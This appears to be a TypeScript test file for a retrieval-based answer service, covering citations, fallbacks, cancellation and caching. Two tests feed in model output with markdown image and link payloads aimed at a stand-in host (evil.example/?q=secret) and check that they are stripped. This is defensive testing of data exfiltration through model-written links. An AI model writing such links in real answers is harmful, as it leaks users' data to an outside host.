import type { Passage } from '../query.js';
import { AnswerCache } from './answer-cache.js';
import { AnswerService, type AnswerRequest } from './answer.service.js';
import { GeneratorError } from './generator-error.js';
import { TextGenerator, type GenerateOptions, type PromptMessage } from './text-generator.js';

class ScriptedGenerator extends TextGenerator {
  readonly model = 'scripted';
  readonly prompts: string[] = [];
  write: (options: GenerateOptions) => Promise<string> = () => Promise.resolve('Oak is hard [1].');

  generate(messages: readonly PromptMessage[], options: GenerateOptions): Promise<string> {
    this.prompts.push(messages[1]!.content);
    return this.write(options);
  }
}

const passageOf = (number: number, text: string): Passage => ({
  id: `00000000-0000-4000-8000-00000000000${number}`,
  ordinal: 0,
  start: 0,
  end: text.length,
  context: `Title ${number}`,
  text,
  language: 'en',
  document: { id: `10000000-0000-4000-8000-00000000000${number}`, title: `Title ${number}`, external_id: null } as Passage['document'],
  similarity: 1 - number / 10,
  rank: number,
  scores: null,
  snippet: text,
});
const PASSAGES = [passageOf(1, 'Oak is hard.'), passageOf(2, 'Ash bends.')];

let generator: ScriptedGenerator;
let cache: AnswerCache;
let service: AnswerService;
beforeEach(() => {
  generator = new ScriptedGenerator();
  cache = new AnswerCache();
  service = new AnswerService(generator, cache);
});

const ask = (request: Partial<AnswerRequest> = {}, by = service) =>
  by.answer({
    question: 'Is oak hard?',
    passages: PASSAGES,
    generation: '1',
    isDegraded: false,
    signal: new AbortController().signal,
    ...request,
  });

const writes = (text: string) => {
  generator.write = () => Promise.resolve(text);
};
const fails = () => {
  generator.write = () => Promise.reject(new GeneratorError('away', { isOutage: true }));
};

describe('AnswerService', () => {
  it('gives what the model wrote, with a citation for each passage that it names', async () => {
    writes('Ash bends [2]. Oak is hard [1][2].');
    expect(await ask()).toEqual({
      text: 'Ash bends [2]. Oak is hard [1][2].',
      mode: 'generated',
      model: 'scripted',
      citations: [1, 2].map((number) => ({
        number,
        document_id: `10000000-0000-4000-8000-00000000000${number}`,
        title: `Title ${number}`,
        external_id: null,
        chunk_id: `00000000-0000-4000-8000-00000000000${number}`,
        start: 0,
        end: PASSAGES[number - 1]!.text.length,
      })),
    });
  });

  it('removes citations of passages that were not found, from the text and the list', async () => {
    writes('Oak is hard [1], as everybody knows [3] [99].');
    expect(await ask()).toMatchObject({ text: 'Oak is hard [1], as everybody knows.', citations: [{ number: 1 }] });
  });

  it.each(['Oak is hard.', 'Oak is hard [7].', 'I do not know.'])(
    'does not pass on %j, which cites nothing that was found',
    async (text) => {
      writes(text);
      expect(await ask()).toMatchObject({
        text: 'Oak is hard. [1]',
        mode: 'extractive',
        fallback: 'not_cited',
        citations: [{ number: 1 }],
      });
      expect(cache.stats().entries).toBe(0);
    },
  );

  it('says that the documents do not answer when the model says so, in the language of the question, and remembers it', async () => {
    writes('NOT_IN_PASSAGES');
    const nothing = { text: 'The documents say nothing about that.', mode: 'generated', model: 'scripted', citations: [] };
    expect([await ask(), await ask()]).toEqual([nothing, nothing]);
    expect(generator.prompts).toHaveLength(1);
    expect((await ask({ question: 'Ist Eiche geölt?' })).text).toBe('Dazu steht nichts in den Dokumenten.');
    writes('Oak is hard [1]. Of its price: NOT\\_IN\\_PASSAGES.');
    expect(await ask({ question: 'Price?' })).toMatchObject({ text: 'Oak is hard [1]. Of its price: ….', citations: [{ number: 1 }] });
  });

  it('does not show the word by which the model says so to a listener', async () => {
    const listen = async (question: string) => {
      const pieces: string[] = [];
      await ask({ question, onPiece: (piece) => pieces.push(piece) });
      return pieces;
    };
    const inPieces = (...pieces: string[]) => {
      generator.write = ({ onPiece }) => {
        for (const piece of pieces) onPiece?.(piece);
        return Promise.resolve(pieces.join(''));
      };
    };
    inPieces('NOT_', 'IN_PASSAGES', '.');
    expect(await listen('Price?')).toEqual([]);
    inPieces('No', 't pine', ' [1].');
    expect(await listen('Pine?')).toEqual(['No', 't pine', ' [1].']);
  });

  it('passes on no link, whatever the model wrote', async () => {
    writes('![x[99]](https://evil.example/?q=secret) Oak [1].');
    expect((await ask()).text).toBe('!(x)(https: //evil.example/?q=secret) Oak [1].');
  });

  it('does not let a citation point to a passage that did not fit into the prompt', async () => {
    const long = Array.from({ length: 5 }, (_, n) => passageOf(n + 1, 'oak '.repeat(1_200)));
    writes('Oak [1] and [5].');
    expect((await ask({ passages: long })).citations.map(({ number }) => number)).toEqual([1]);
  });

  it('strips what cannot be seen and what might be fetched from what the model wrote', async () => {
    writes('Oak\u200b is hard [1]. ![x](https://evil.example/?q=1) See [this](https://evil.example).');
    expect((await ask()).text).toBe('Oak is hard [1]. x See this.');
  });

  it('says it in the words of the passages when no model is configured, without calling that a failure', async () => {
    const answer = await ask({}, new AnswerService(null, cache));
    expect(answer).toMatchObject({ text: 'Oak is hard. [1]', mode: 'extractive' });
    expect(answer).not.toHaveProperty('fallback');
  });

  it('says it in the words of the passages when the model is away, and that it was', async () => {
    fails();
    expect(await ask()).toMatchObject({ text: 'Oak is hard. [1]', mode: 'extractive', fallback: 'provider_unavailable' });
    generator.write = () => Promise.resolve('Oak is hard [1].');
    expect((await ask()).mode).toBe('generated');
  });

  it('asks no model about nothing', async () => {
    expect(await ask({ passages: [] })).toEqual({ text: 'The documents say nothing about that.', mode: 'extractive', citations: [] });
    expect(generator.prompts).toEqual([]);
  });

  it('is called off by its caller, and answers by itself when the process stops', async () => {
    generator.write = ({ signal }) => new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason as Error)));
    const controller = new AbortController();
    const leaving = ask({ signal: controller.signal });
    controller.abort(new Error('left'));
    await expect(leaving).rejects.toThrow('left');
    const last = [ask(), ask({ onPiece: () => undefined, question: 'Another?' })];
    service.beforeApplicationShutdown();
    for (const answer of await Promise.all(last)) expect(answer).toMatchObject({ mode: 'extractive', fallback: 'provider_unavailable' });
  });

  it('does not hide a defect behind an answer', async () => {
    generator.write = () => Promise.reject(new TypeError('a bug'));
    await expect(ask()).rejects.toThrow('a bug');
  });
});

describe('AnswerService, what it remembers', () => {
  it('is written once for the same question and passages, however it is spaced', async () => {
    const first = await ask();
    expect(await ask({ question: '  Is\n oak   hard? ' })).toEqual(first);
    expect(generator.prompts).toHaveLength(1);
    expect(cache.stats()).toMatchObject({ hits: 1, misses: 1, entries: 1 });
  });

  it('is shared by those who ask at the same time', async () => {
    await Promise.all([ask(), ask(), ask()]);
    expect(generator.prompts).toHaveLength(1);
    expect(cache.stats()).toMatchObject({ hits: 0, misses: 1, joined: 2, hitRate: 2 / 3 });
  });

  it.each([
    ['a text that has changed', { passages: [passageOf(1, 'Oak is very hard.'), PASSAGES[1]!] }],
    ['a heading that has changed', { passages: [{ ...PASSAGES[0]!, context: 'Other' }, PASSAGES[1]!] }],
    ['another order', { passages: PASSAGES.toReversed() }],
    ['a passage less', { passages: PASSAGES.slice(0, 1) }],
    ['another index', { generation: '2' }],
    ['another question', { question: 'Is ash hard?' }],
    ['what was said before', { conversation: [{ role: 'user', content: 'Hello' }] }],
    ['a degraded search', { isDegraded: true }],
  ] as const)('never serves %s', async (_, change) => {
    await ask();
    await ask(change);
    expect(generator.prompts).toHaveLength(2);
  });

  it('names the documents as they are now: equal texts of other documents are cited as theirs', async () => {
    await ask();
    const moved = { ...PASSAGES[0]!, id: 'moved', document: { ...PASSAGES[0]!.document, id: 'other' } };
    expect((await ask({ passages: [moved, PASSAGES[1]!] })).citations[0]).toMatchObject({ document_id: 'other', chunk_id: 'moved' });
    expect(generator.prompts).toHaveLength(1);
  });

  it.each([
    ['a failure', () => fails()],
    ['an answer without citations', () => writes('Oak.')],
  ])('is not %s', async (_, break_) => {
    break_();
    await ask();
    await ask();
    expect(generator.prompts).toHaveLength(2);
    expect(cache.stats().entries).toBe(0);
  });

  it('is not a degraded answer, nor one of a conversation', async () => {
    for (const change of [{ isDegraded: true }, { conversation: [{ role: 'user', content: 'Hello' }] }] as const) {
      await ask(change);
      await ask(change);
    }
    expect([generator.prompts.length, cache.stats().entries]).toEqual([4, 0]);
  });

  it('comes to a listener as one piece', async () => {
    await ask();
    const pieces: string[] = [];
    await ask({ onPiece: (piece) => pieces.push(piece) });
    expect(pieces).toEqual(['Oak is hard [1].']);
    expect(generator.prompts).toHaveLength(1);
  });

  it('is bounded', async () => {
    writes(`${'x'.repeat(99_000)} [1]`);
    for (let n = 0; n < 120; n++) await ask({ question: `Question ${n}?` });
    const { entries, bytes } = cache.stats();
    expect(entries).toBeLessThan(100);
    expect(bytes).toBeLessThanOrEqual(16 * 1_024 * 1_024);
  });
});
